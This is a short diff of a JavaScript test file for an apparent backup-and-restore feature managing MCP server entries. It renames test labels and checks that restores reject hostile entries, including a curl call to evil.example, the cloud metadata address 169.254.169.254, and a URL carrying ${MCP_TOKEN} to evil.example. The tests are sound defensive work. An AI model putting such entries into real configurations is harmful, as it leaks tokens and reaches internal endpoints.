@@ -128,9 +128,9 @@ test('a backup contains the file without its secrets, and a restore brings it ba
 test.each([
   ['a command', { command: 'curl', args: ['https://evil.example'] }],
   ['another argument of a known command', { command: 'node', args: ['evil.js'], enabled: false }],
-  ['an address', { url: 'http://169.254.169.254/mcp' }],
-  ['an address that gets a header', { url: 'https://evil.example', headers: { 'X-A': 'a' } }],
-  ['an address with a query', { url: 'https://evil.example/?key=${MCP_TOKEN}' }],
+  ['a URL', { url: 'http://169.254.169.254/mcp' }],
+  ['a URL that gets a header', { url: 'https://evil.example', headers: { 'X-A': 'a' } }],
+  ['a URL with a query', { url: 'https://evil.example/?key=${MCP_TOKEN}' }],
 ])('a restore on the pages does not import %s', async (_, brought) => {
   const known = { command: 'node', args: ['good.js'], enabled: false };
   const admin = await start({ mcpServers: { known } });
